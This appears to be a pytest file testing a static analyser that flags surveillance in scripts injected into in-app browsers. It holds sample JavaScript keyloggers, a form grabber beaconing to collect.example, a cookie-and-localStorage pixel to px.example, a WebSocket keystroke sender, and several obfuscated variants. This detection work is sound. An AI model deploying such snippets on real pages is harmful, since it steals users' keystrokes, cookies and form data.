"""Script analysis (analysis/webscript.py) on scripts shaped like the ones apps inject into their
in-app browsers: minified, obfuscated (concatenation, bracket access, arrays of strings, eval of a
built string, atob, fromCharCode), modern syntax, and benign ones that must show nothing."""

from __future__ import annotations

import base64
import hashlib

import pytest

from phonehome.analysis.webscript import (
    COOKIES_STORAGE as COOKIES,
)
from phonehome.analysis.webscript import (
    DYNAMIC_CODE as DYN,
)
from phonehome.analysis.webscript import (
    FORM,
    KEYBOARD,
    NATIVE_BRIDGE,
    NETWORK,
    PAGE_CONTENT,
    POINTER,
    SELECTION_CLIPBOARD,
    ScriptLimits,
    analyse_script,
)

KEYLOGGER = (
    "document.addEventListener('keydown',function(e){window.webkit.messageHandlers.log.postMessage(e.key)})"
)

SCRIPTS = [
    pytest.param(
        # shaped like the iOS in-app browser code published in 2022: every key and tap to the app
        "!function(){var t=window,e=document;function n(n){t.webkit.messageHandlers.TTJSBridge.postMessage("
        "JSON.stringify({type:n.type,key:n.key,x:n.clientX,y:n.clientY,target:n.target.tagName}))}"
        'e.addEventListener("keypress",n,!0),e.addEventListener("click",n,!0),'
        'e.addEventListener("touchstart",n,{passive:!0})}();',
        {KEYBOARD, POINTER, NATIVE_BRIDGE},
        id="minified-keys-and-taps-to-webkit-handler",
    ),
    pytest.param(
        "(function(){var d=document,w=window;d.addEventListener('selectionchange',function(){var s=w.getSelection()"
        ".toString();if(s)w.webkit.messageHandlers.pcm.postMessage({sel:s})});d.addEventListener('click',function(e){"
        "var r=e.target.getBoundingClientRect();w.webkit.messageHandlers.pcm.postMessage({x:r.x,y:r.y})},true)})()",
        {SELECTION_CLIPBOARD, POINTER, PAGE_CONTENT, NATIVE_BRIDGE},
        id="selection-and-tap-geometry",
    ),
    pytest.param(
        "document.querySelectorAll('input').forEach(function(i){i.addEventListener('input',function(e){"
        "TTAndroidBridge.sendEvent(JSON.stringify({name:e.target.name,value:e.target.value}))})})",
        {KEYBOARD, PAGE_CONTENT, NATIVE_BRIDGE},
        id="android-bridge-input-values",
    ),
    pytest.param(
        "var f=document.forms;for(var i=0;i<f.length;i++){f[i].addEventListener('submit',function(ev){"
        "navigator.sendBeacon('https://collect.example/f',new FormData(ev.target))})}",
        {FORM, PAGE_CONTENT, NETWORK},
        id="form-grabber-beacon",
    ),
    pytest.param(
        "(function(){var i=new Image();i.src='https://px.example/p.gif?c='+encodeURIComponent(document.cookie)+"
        "'&ls='+JSON.stringify(localStorage)})()",
        {COOKIES, NETWORK},
        id="cookie-pixel",
    ),
    pytest.param(
        "window['doc'+'ument']['add'+'Event'+'List'+'ener']('key'+'up',function(e){var x=new XMLHttpRequest;"
        "x.open('POST','/k');x.send(e['k'+'ey'])})",
        {KEYBOARD, NETWORK},
        id="obfuscated-concatenation",
    ),
    pytest.param(
        "var _0x3f2a=['" + "keydown"[::-1] + "','" + "addEventListener"[::-1] + "','tneve'];"
        "function _0xg(i){return _0x3f2a[i].split('')"
        ".reverse().join('')}document[_0xg(1)](_0xg(0),function(e){fetch('/x',{method:'POST',body:e.key})});",
        {KEYBOARD, NETWORK},
        id="obfuscated-reversed-strings-via-decoder-function",
    ),
    pytest.param(
        "var _0x3f2a=['keydown','addEventListener','sendBeacon'];document[_0x3f2a[1]](_0x3f2a[0],function(e){"
        "navigator[_0x3f2a[2]]('/k',e.key)});",
        {KEYBOARD, NETWORK},
        id="obfuscated-string-array",
    ),
    pytest.param(
        "var a='"
        + "touchstart"[::-1]
        + "'.split('').reverse().join('');document.body.addEventListener(a,function(){});",
        {POINTER},
        id="obfuscated-reverse-join",
    ),
    pytest.param(
        "eval('docu'+'ment.addEventListener(\"touchstart\",function(e){ReactNativeWebView.postMessage(e.type)})')",
        {POINTER, NATIVE_BRIDGE, DYN},
        id="eval-of-built-string",
    ),
    pytest.param("new Function('return docu'+'ment.cookie')();", {COOKIES, DYN}, id="function-constructor"),
    pytest.param(
        "setTimeout(\"document.onkeydown=function(e){parent.postMessage(e.key,'*')}\",100)",
        {KEYBOARD, DYN},
        id="settimeout-string-keyboard-no-native-exit",
    ),
    pytest.param(
        "eval(atob('" + base64.b64encode(KEYLOGGER.encode()).decode() + "'))",
        {KEYBOARD, NATIVE_BRIDGE, DYN},
        id="eval-atob",
    ),
    pytest.param(
        "var k=String.fromCharCode(107,101,121,100,111,119,110);document.addEventListener(k,function(e){"
        "new WebSocket('wss://k.example/s').send(e.key)})",
        {KEYBOARD, NETWORK},
        id="fromcharcode-websocket",
    ),
    pytest.param(
        "$(document).on('keyup input','input,textarea',function(){$.post('/track',{v:$(this).val()})});"
        "$(window).scroll(function(){});",
        {KEYBOARD, POINTER, NETWORK},
        id="jquery-style",
    ),
    pytest.param(
        "document.onkeydown=function(e){window.AndroidInterface.log(e.key)};document.body.ontouchend=function(){};",
        {KEYBOARD, POINTER},
        id="on-properties-unknown-bridge-name",
    ),
    pytest.param(
        "document.addEventListener('click',function(e){location.href='bytedance://dispatch_message/?x='+e.clientX})",
        {POINTER},
        id="custom-scheme-not-constant",
    ),
    pytest.param(
        "document.addEventListener('click',function(){var f=document.createElement('iframe');"
        "f.src='bytedance://dispatch_message/';document.body.appendChild(f)})",
        {POINTER, NATIVE_BRIDGE},
        id="custom-scheme-iframe-bridge",
    ),
    pytest.param(
        "class T{#q=[];static async run(){document?.addEventListener?.('pointerdown',e=>T.#push(e));}"
        "static #push(e){navigator.sendBeacon?.('/t',JSON.stringify({x:e?.clientX??0}))}}T.run();",
        {POINTER, NETWORK},
        id="modern-syntax",
    ),
    pytest.param(
        "(()=>{const t=document.body.innerText.slice(0,5000);const links=[...document.links].map(a=>a.href);"
        "window.ReactNativeWebView.postMessage(JSON.stringify({t,links}))})()",
        {PAGE_CONTENT, NATIVE_BRIDGE},
        id="page-scraper-react-native",
    ),
    pytest.param(
        "navigator.clipboard.readText().then(t=>fetch('/c',{method:'POST',body:t}));document.execCommand('copy');",
        {SELECTION_CLIPBOARD, NETWORK},
        id="clipboard",
    ),
    pytest.param(
        "sessionStorage.setItem('s',1);var r=indexedDB.open('x');document['\\x63ookie']='a=b';",
        {COOKIES},
        id="storage-and-escaped-cookie",
    ),
    pytest.param(
        "(function(){var m=document.querySelector('meta[name=theme-color]');if(m){m.setAttribute('content','#000')}"
        "document.documentElement.style.setProperty('--safe-top','24px');window.scrollTo(0,0);})();",
        set(),
        id="benign-theme-and-safe-area",
    ),
    pytest.param(
        "var v=document.querySelector('video');if(v){v.muted=true;v.play()}document.title;",
        set(),
        id="benign-video-autoplay",
    ),
    pytest.param(
        "window.__TT_NIGHT_MODE__=true;document.body.classList.add('night');console.log('ok',1+2);",
        set(),
        id="benign-night-mode",
    ),
    pytest.param(
        "var u=new URL(location.href);u.searchParams.delete('utm_source');history.replaceState(null,'',u.toString());",
        set(),
        id="benign-url-cleanup",
    ),
]


@pytest.mark.parametrize(("script", "expected"), SCRIPTS)
def test_capabilities(script: str, expected: set[str]) -> None:
    result = analyse_script(script)
    assert set(result.capabilities) == expected, [(e.capability, e.api, e.position) for e in result.evidence]
    for cap in expected:
        assert result.evidence_for(cap), cap


def test_evidence_has_call_position_and_sha() -> None:
    script = "var x = 1;\n  document.addEventListener('keydown', f);"
    r = analyse_script(script)
    (ev,) = r.evidence_for(KEYBOARD)
    assert ev.api == 'addEventListener("keydown")'
    assert (ev.line, ev.column) == (2, 3)
    assert ev.code == "document.addEventListener('keydown', f)"
    assert ev.script_sha256 == r.sha256 == hashlib.sha256(script.encode()).hexdigest()
    assert ev.via == ()


def test_evidence_inside_evald_code_names_its_chain() -> None:
    inner = "document.cookie"
    r = analyse_script(f"eval('{inner}')")
    (ev,) = r.evidence_for(COOKIES)
    assert ev.script_sha256 == hashlib.sha256(inner.encode()).hexdigest()
    assert ev.via == (f"eval at 1:1 of {r.sha256[:12]}",)
    assert r.scripts == 2 and r.complete


def test_bridge_names_from_add_javascript_interface() -> None:
    script = "document.addEventListener('keyup',e=>appHost.report(e.key))"
    assert NATIVE_BRIDGE not in analyse_script(script).capabilities
    assert NATIVE_BRIDGE in analyse_script(script, bridge_names=["appHost"]).capabilities


def test_parse_failure_is_said_not_raised() -> None:
    r = analyse_script("}{)(function(((( document.addEventListener('keydown',f)")
    assert any("syntax errors" in n for n in r.notes)
    assert not r.complete


def test_code_that_cannot_be_computed_is_said() -> None:
    r = analyse_script("eval(location.hash.slice(1))")
    assert DYN in r.capabilities
    assert any("could not be computed" in n for n in r.notes)


def test_eval_depth_bound_is_said() -> None:
    script = "document.cookie"
    for _ in range(6):
        script = "eval(" + repr(script) + ")"
    r = analyse_script(script, limits=ScriptLimits(max_depth=3))
    assert COOKIES not in r.capabilities
    assert any("deeper than 3" in n for n in r.notes)


def test_node_bound_is_said() -> None:
    script = ";".join(f"a{i}=b{i}" for i in range(2000)) + ";document.addEventListener('keydown',f)"
    r = analyse_script(script, limits=ScriptLimits(max_nodes=500))
    assert any("syntax nodes" in n for n in r.notes)


@pytest.mark.parametrize(
    "hostile",
    [
        "",
        "\x00\xff" * 100,
        "a+" * 20000 + "a",
        "(" * 5000,
        "'" + "\\u{110000}" + "'",
        "eval(" * 3000,
        "[" * 3000 + "]" * 3000,
        b"\xff\xfe\x00garbage".decode("latin-1"),
    ],
)
def test_hostile_input_never_raises(hostile: str) -> None:
    r = analyse_script(hostile)
    assert r.sha256 and isinstance(r.notes, tuple)


def test_deep_concatenation_folds() -> None:
    parts = "+".join(repr(c) for c in "addEventListener")
    r = analyse_script(f"document[{parts}]('keydown',f)")
    assert r.capabilities == (KEYBOARD,)


@pytest.mark.parametrize(
    "expr",
    [
        "'xcookiex'.substr(1,6)",
        "'xcookiex'.substring(1,7)",
        "'xxcookie'.slice(2)",
        "'COOKIE'.toLowerCase()",
        "['coo','kie'].join('')",
        "['c'].concat(['ookie']).join('')",
        "'c'.concat('oo','kie')",
        "' cookie '.trim()",
        "'cxxkie'.replace('xx','oo')",
    ],
)
def test_string_methods_fold(expr: str) -> None:
    assert analyse_script(f"var v=document[{expr}];").capabilities == (COOKIES,)
